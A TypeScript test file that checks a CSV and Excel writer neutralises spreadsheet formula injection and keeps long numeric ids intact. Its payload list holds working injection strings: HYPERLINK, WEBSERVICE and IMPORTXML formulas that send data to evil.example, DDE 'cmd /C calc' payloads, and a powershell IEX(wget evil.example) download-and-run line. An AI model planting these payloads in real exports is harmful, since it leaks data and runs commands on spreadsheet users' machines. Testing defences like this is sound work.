import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../src/files/write-csv.ts';
import { guard, isFormulaLike, unguard } from '../../src/files/write-guard.ts';
import type { ColumnKind } from '../../src/files/write-sheet.ts';
import { writeXlsx } from '../../src/files/write-xlsx.ts';
import { asSheetJs, csvRecords, folderPerTest, partsOf, readBook, sheetOf } from './write-support.ts';

const FORMULAS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.example/?"&A1,"点击")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
];
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

const PAYLOADS = [
  ...STARTS.flatMap(start => FORMULAS.map(formula => start + formula)),
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '   @SUM(1)',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '=1+1"',
  '=1+1","=2+2',
  '"=1+1',
  '",=1+1',
  '=1+1\r\n=2+2',
  "'=1+1",
  "''=1+1",
  '=DDE("cmd";"/C calc";"x")',
  "+cmd|'/c powershell IEX(wget evil.example)'!_xlbgnm.A1",
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=',
  '-',
  '--',
  '-5.00%',
  '-5.00 ',
  '=-5.00',
];

/** What a spreadsheet does with the first character after spaces, told without the product's own rule. */
function wouldRun(csvText: string): boolean {
  const body = csvText.replace(/^[\s\ufeff\u200b]*?(?=[=+\-@＝＋－＠\t\r\n\0]|[^\s\ufeff\u200b])/u, '');
  return /^[=+\-@＝＋－＠\t\r\n\0]/.test(body) && !/^[+-]\d[\d,]*(\.\d+)?$/.test(csvText);
}

const folder = folderPerTest();

describe('formula injection', () => {
  const kinds: ColumnKind[] = ['text', 'id', 'text'];

  it('has at least 44 payloads that would run if nothing guarded them', () => {
    expect(PAYLOADS.filter(wouldRun).length).toBeGreaterThanOrEqual(44);
  });

  it('leaves no text, id or memo of a CSV that would run, and comes back whole', async () => {
    const rows = PAYLOADS.map(payload => [payload, payload, payload]);
    await writeCsv(folder.path('a.csv'), sheetOf(kinds, rows));
    const records = csvRecords(folder.path('a.csv')).slice(1);
    expect(records).toHaveLength(PAYLOADS.length);
    for (const [index, record] of records.entries()) {
      for (const cell of record) {
        expect(wouldRun(cell), JSON.stringify(cell)).toBe(false);
        expect(unguard(cell)).toBe(PAYLOADS[index]);
      }
    }
  });

  it('guards headings and title lines of a CSV too', async () => {
    const sheet = sheetOf(['text'], [], { title: ['=1+1'] });
    sheet.columns[0]!.heading = '@SUM(1)';
    await writeCsv(folder.path('a.csv'), sheet);
    expect(csvRecords(folder.path('a.csv'))).toEqual([["'=1+1"], ["'@SUM(1)"]]);
  });

  it('writes every payload into a workbook as a string that is no formula, and quote-prefixed', async () => {
    const rows = PAYLOADS.map(payload => [payload, payload, payload]);
    await writeXlsx(folder.path('a.xlsx'), [sheetOf(kinds, rows)]);
    const book = readBook(folder.path('a.xlsx'));
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    for (const [index, payload] of PAYLOADS.entries()) {
      for (const column of 'ABC') {
        const cell = sheet[`${column}${index + 2}`];
        expect(cell.t).toBe('s');
        expect(cell.f).toBeUndefined();
        expect(cell.v).toBe(asSheetJs(payload));
      }
    }
    const parts = await partsOf(folder.path('a.xlsx'));
    const xml = parts['xl/worksheets/sheet1.xml']!;
    expect(xml).not.toContain('<f>');
    const formats = [...parts['xl/styles.xml']!.split('<cellXfs')[1]!.matchAll(/<xf [^>]*>/g)].map(m => m[0]);
    for (const [index, payload] of PAYLOADS.entries()) {
      if (!isFormulaLike(payload)) continue;
      for (const column of 'ABC') {
        const style = new RegExp(`<c r="${column}${index + 2}" s="(\\d+)"`).exec(xml)?.[1];
        expect(formats[Number(style)], payload).toContain('quotePrefix="1"');
      }
    }
  });

  it('leaves numbers numbers: −5.00 in a money column and as plain text', async () => {
    const rows = [[-500_000, '-5.00', '+1,234.50']];
    const sheet = () => sheetOf(['money', 'text', 'text'], rows);
    await writeCsv(folder.path('a.csv'), sheet());
    expect(csvRecords(folder.path('a.csv'))[1]).toEqual(['-5.00', '-5.00', '+1,234.50']);
    await writeXlsx(folder.path('a.xlsx'), [sheet()]);
    const book = readBook(folder.path('a.xlsx'));
    expect(book.Sheets.流水!.A2).toMatchObject({ t: 'n', v: -5, z: '#,##0.00;[Red]-#,##0.00' });
    expect(book.Sheets.流水!.B2).toMatchObject({ t: 's', v: '-5.00' });
  });
});

describe('guard', () => {
  it('keeps digits that Excel would destroy and leaves other ids alone', () => {
    expect(guard('2026050112345678901')).toBe('2026050112345678901\t');
    expect(guard('007')).toBe('007\t');
    expect(guard('12E5')).toBe('12E5\t');
    for (const plain of ['20260501', '0', 'T200P', '2026-05-01 09:08:07', '12.50']) {
      expect(guard(plain)).toBe(plain);
    }
    expect(unguard('2026050112345678901\t')).toBe('2026050112345678901');
  });

  it('is undone exactly by unguard, whatever the text', () => {
    const units = fc.constantFrom(...'=\'+-@＝＋－＠ \t\r\n\0\u3000\ufeff0129.,eE"账a');
    const text = fc.oneof(fc.string({ unit: units, maxLength: 12 }), fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(text, value => {
        // A trailing TAB after digits is padding, in our files as in the platforms'.
        fc.pre(!/^\d.*\t$/s.test(value));
        expect(unguard(guard(value))).toBe(value);
        expect(isFormulaLike(guard(value))).toBe(false);
      }),
      { numRuns: 5_000 },
    );
  });
});
